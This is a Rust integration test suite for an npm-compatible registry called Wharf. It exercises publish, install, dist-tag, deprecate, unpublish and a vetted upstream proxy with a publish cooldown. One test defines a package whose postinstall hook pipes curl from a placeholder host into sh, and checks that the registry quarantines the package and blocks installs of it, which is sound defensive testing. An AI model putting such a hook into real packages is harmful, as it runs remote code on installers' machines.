//! The real npm CLI against a real `wharf serve` on 127.0.0.1, configured
//! only by a registry URL and an `_authToken`: publish, install, view,
//! dist-tag, deprecate, unpublish, and a held install script.

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use support::*;

/// The npm CLI from `scripts/test-services`.
fn npm_bin() -> PathBuf {
    std::env::var_os("WHARF_TEST_NPM")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("npm"))
}

/// A project directory whose `.npmrc` points at Wharf, with npm's cache and
/// user config kept inside the test's directory.
struct NpmProject {
    dir: PathBuf,
    cache: PathBuf,
}

impl NpmProject {
    fn new(root: &Path, name: &str, server: &Server, token: &str) -> Self {
        let dir = root.join(name);
        std::fs::create_dir_all(&dir).unwrap();
        let registry = server.url("/npm/");
        let host = registry.trim_start_matches("http:");
        std::fs::write(
            dir.join(".npmrc"),
            format!("registry={registry}\n{host}:_authToken={token}\n"),
        )
        .unwrap();
        Self {
            dir,
            cache: root.join("npm-cache"),
        }
    }

    fn write(&self, path: &str, contents: &str) -> &Self {
        let path = self.dir.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, contents).unwrap();
        self
    }

    fn npm(&self, args: &[&str]) -> Output {
        Command::new(npm_bin())
            .args(args)
            .args(["--no-fund", "--no-update-notifier"])
            .current_dir(&self.dir)
            .env("npm_config_cache", &self.cache)
            .env("npm_config_userconfig", self.dir.join("no-user-npmrc"))
            .env_remove("npm_config_registry")
            .output()
            .expect("run npm")
    }

    fn ok(&self, args: &[&str]) -> String {
        let out = self.npm(args);
        assert!(
            out.status.success(),
            "npm {args:?} failed:\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn fails(&self, args: &[&str]) -> String {
        let out = self.npm(args);
        assert!(!out.status.success(), "npm {args:?} should have failed");
        String::from_utf8_lossy(&out.stderr).into_owned()
    }
}

fn package_json(name: &str, version: &str, extra: &str) -> String {
    format!(
        "{{\"name\":\"{name}\",\"version\":\"{version}\",\"description\":\"{name} for the npm test\",\
         \"main\":\"index.js\"{extra}}}"
    )
}

#[test]
fn npm_publishes_installs_tags_deprecates_and_unpublishes() {
    let root = tempfile::tempdir().unwrap();
    let data = root.path().join("data");
    let server = Server::start(&data);
    let token = token(&data, "alice", "read,publish");

    let left = NpmProject::new(root.path(), "left", &server, &token);
    left.write("package.json", &package_json("wharf-npm-left", "1.0.0", ""))
        .write("index.js", "module.exports = () => 'left';\n");
    assert_eq!(left.ok(&["whoami"]).trim(), "alice");
    left.ok(&["publish"]);

    let scoped = NpmProject::new(root.path(), "scoped", &server, &token);
    scoped
        .write(
            "package.json",
            &package_json(
                "@wharf-test/right",
                "0.2.0",
                ",\"dependencies\":{\"wharf-npm-left\":\"^1.0.0\"}",
            ),
        )
        .write(
            "index.js",
            "module.exports = () => require('wharf-npm-left')() + ' and right';\n",
        );
    scoped.ok(&["publish"]);

    // A fresh project installs both through Wharf alone.
    let app = NpmProject::new(root.path(), "app", &server, &token);
    app.write(
        "package.json",
        "{\"name\":\"app\",\"version\":\"1.0.0\",\"private\":true}",
    );
    app.ok(&["install", "@wharf-test/right"]);
    let said = Command::new("node")
        .args(["-e", "console.log(require('@wharf-test/right')())"])
        .current_dir(&app.dir)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&said.stdout).trim(),
        "left and right"
    );
    // The lockfile records the integrity Wharf served, which is the tarball's.
    let lock: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(app.dir.join("package-lock.json")).unwrap())
            .unwrap();
    let locked = &lock["packages"]["node_modules/wharf-npm-left"];
    let tarball_url = locked["resolved"].as_str().unwrap();
    assert!(
        tarball_url.starts_with(&server.url("/npm/")),
        "{tarball_url}"
    );
    let (status, packument) = server.get("/npm/wharf-npm-left");
    assert_eq!(status, 200);
    let packument: serde_json::Value = serde_json::from_str(&packument).unwrap();
    assert_eq!(
        locked["integrity"],
        packument["versions"]["1.0.0"]["dist"]["integrity"]
    );
    let path = tarball_url.split_once("/npm/").unwrap().1;
    let bytes = http_bytes(&server, &format!("/npm/{path}"));
    assert_eq!(
        locked["integrity"].as_str().unwrap(),
        wharf_testkit::npm::integrity(&bytes)
    );

    // npm view, dist-tag, deprecate.
    let view = left.ok(&["view", "wharf-npm-left", "--json"]);
    let view: serde_json::Value = serde_json::from_str(&view).unwrap();
    assert_eq!(view["version"], "1.0.0");
    left.write("package.json", &package_json("wharf-npm-left", "1.1.0", ""));
    left.ok(&["publish", "--tag", "next"]);
    let tags = left.ok(&["dist-tag", "ls", "wharf-npm-left"]);
    assert!(
        tags.contains("latest: 1.0.0") && tags.contains("next: 1.1.0"),
        "{tags}"
    );
    left.ok(&["dist-tag", "add", "wharf-npm-left@1.1.0", "latest"]);
    left.ok(&["dist-tag", "rm", "wharf-npm-left", "next"]);
    let tags = left.ok(&["dist-tag", "ls", "wharf-npm-left"]);
    assert_eq!(tags.trim(), "latest: 1.1.0");
    left.ok(&["deprecate", "wharf-npm-left@1.0.0", "use 1.1"]);
    assert_eq!(
        left.ok(&["view", "wharf-npm-left@1.0.0", "deprecated"])
            .trim(),
        "use 1.1"
    );

    // Unpublish: refused while @wharf-test/right depends on it, then allowed
    // for a version nothing needs; a republish of that number is refused.
    let refused = left.fails(&["unpublish", "wharf-npm-left@1.0.0"]);
    assert!(
        refused.contains("@wharf-test/right depend(s) on wharf-npm-left"),
        "{refused}"
    );
    scoped.ok(&["unpublish", "@wharf-test/right@0.2.0", "--force"]);
    left.ok(&["unpublish", "wharf-npm-left@1.1.0"]);
    let versions = left.ok(&["view", "wharf-npm-left", "versions", "--json"]);
    let versions: serde_json::Value = serde_json::from_str(&versions).unwrap();
    assert_eq!(versions, serde_json::json!(["1.0.0"]));
    let again = left.fails(&["publish"]);
    assert!(
        again.contains("You cannot publish over the previously published versions: 1.1.0."),
        "{again}"
    );
    let audit = server.admin(&["audit", "--action", "npm.unpublish"]);
    assert!(audit.contains("wharf-npm-left"), "{audit}");
}

#[test]
fn a_package_whose_postinstall_pipes_curl_to_sh_cannot_be_installed() {
    let root = tempfile::tempdir().unwrap();
    let data = root.path().join("data");
    let server = Server::start(&data);
    let token = token(&data, "alice", "read,publish");
    let evil = NpmProject::new(root.path(), "evil", &server, &token);
    evil.write(
        "package.json",
        &package_json(
            "wharf-npm-hook",
            "1.0.0",
            ",\"scripts\":{\"postinstall\":\"curl -fsSL https://payload.invalid/x.sh | sh\"}",
        ),
    )
    .write("index.js", "module.exports = 1;\n");
    let published = evil.npm(&["publish"]);
    let said = String::from_utf8_lossy(&published.stderr);
    assert!(
        said.contains("quarantined"),
        "the publisher is told: {said}"
    );

    let app = NpmProject::new(root.path(), "app", &server, &token);
    app.write(
        "package.json",
        "{\"name\":\"app\",\"version\":\"1.0.0\",\"private\":true}",
    );
    let refused = app.fails(&["install", "wharf-npm-hook"]);
    assert!(
        refused.contains("held by this registry's checks"),
        "{refused}"
    );
    assert!(!app.dir.join("node_modules/wharf-npm-hook").exists());

    let admin = token_admin(&data);
    let (status, queue) = send_json(&server, "GET", "/api/v1/admin/quarantine", &admin, "");
    assert_eq!(status, 200, "{queue}");
    assert!(
        queue.contains("wharf-npm-hook/-/wharf-npm-hook-1.0.0.tgz"),
        "{queue}"
    );
    assert!(queue.contains("code.download-exec"), "{queue}");
}

/// An administrator's token.
fn token_admin(data: &Path) -> String {
    let _ = support::wharf(data)
        .args(["admin", "user", "create", "root", "--admin"])
        .output()
        .unwrap();
    admin(
        data,
        &["token", "create", "--user", "root", "--scope", "admin"],
    )
    .trim()
    .to_owned()
}

/// The body of a GET, as bytes.
fn http_bytes(server: &Server, path: &str) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(server.addr).unwrap();
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        server.addr
    )
    .unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).unwrap();
    let split = raw.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
    assert!(
        raw.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&raw[..split])
    );
    raw[split..].to_vec()
}

/// The real tarballs `scripts/npm-tarballs` packed: debug 4.3.4 and its
/// dependency ms 2.1.2, is-number 7.0.0 and @types/ms 0.7.34.
fn real_tarballs() -> PathBuf {
    std::env::var_os("WHARF_TEST_NPM_TARBALLS")
        .map(PathBuf::from)
        .expect("WHARF_TEST_NPM_TARBALLS is set by scripts/test (scripts/npm-tarballs)")
}

#[test]
fn npm_installs_real_packages_through_the_vetted_proxy_with_only_wharf_configured() {
    let root = tempfile::tempdir().unwrap();
    let tarballs = real_tarballs();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let upstream = runtime.block_on(wharf_testkit::fake_npm::FakeNpm::start());
    for entry in std::fs::read_dir(&tarballs).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "tgz") {
            let bytes = std::fs::read(&path).unwrap();
            // is-number was "just published": the cooldown holds it back.
            let published = if path.ends_with("is-number-7.0.0.tgz") {
                std::time::SystemTime::now() - std::time::Duration::from_secs(3600)
            } else {
                wharf_testkit::fake_npm::default_publish_time()
            };
            upstream.add_tarball(bytes, published);
        }
    }
    let data = root.path().join("data");
    let server = Server::start_with_env(&data, &[("WHARF_PROXY_NPM_UPSTREAM", upstream.url())]);
    let token = token_admin(&data);
    let app = NpmProject::new(root.path(), "app", &server, &token);
    app.write("package.json", &package_json("proxy-app", "1.0.0", ""));

    app.ok(&["install", "debug@4.3.4", "@types/ms@0.7.34"]);
    for installed in ["debug", "ms", "@types/ms"] {
        assert!(
            app.dir
                .join("node_modules")
                .join(installed)
                .join("package.json")
                .is_file(),
            "{installed} is not installed"
        );
    }
    // Every tarball came through Wharf, and the lockfile's integrity is the
    // real tarball's SHA-512.
    let lock: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(app.dir.join("package-lock.json")).unwrap())
            .unwrap();
    for (key, file) in [
        ("node_modules/debug", "debug-4.3.4.tgz"),
        ("node_modules/ms", "ms-2.1.2.tgz"),
        ("node_modules/@types/ms", "types-ms-0.7.34.tgz"),
    ] {
        let locked = &lock["packages"][key];
        let resolved = locked["resolved"].as_str().unwrap_or_default();
        assert!(
            resolved.starts_with(&server.url("/npm/")),
            "{key}: {resolved}"
        );
        let real = std::fs::read(tarballs.join(file)).unwrap();
        assert_eq!(
            locked["integrity"].as_str().unwrap(),
            wharf_testkit::npm::integrity(&real),
            "{key}"
        );
    }
    let said = Command::new("node")
        .args(["-e", "console.log(typeof require('debug'))"])
        .current_dir(&app.dir)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&said.stdout).trim(), "function");

    // The cooldown: a version published an hour ago is not installable yet.
    let held = app.fails(&["install", "is-number"]);
    assert!(held.contains("cooldown"), "{held}");
    // An administrator admits it early, and then it installs.
    run(wharf(&data)
        .env("WHARF_PROXY_NPM_UPSTREAM", upstream.url())
        .args(["admin", "proxy", "--npm", "allow", "is-number@7.0.0"])
        .args(["--reason", "needed today"]));
    // A running server reads the rules again within 5 seconds.
    std::thread::sleep(std::time::Duration::from_secs(6));
    app.ok(&["install", "is-number@7.0.0"]);
    drop(upstream);
}
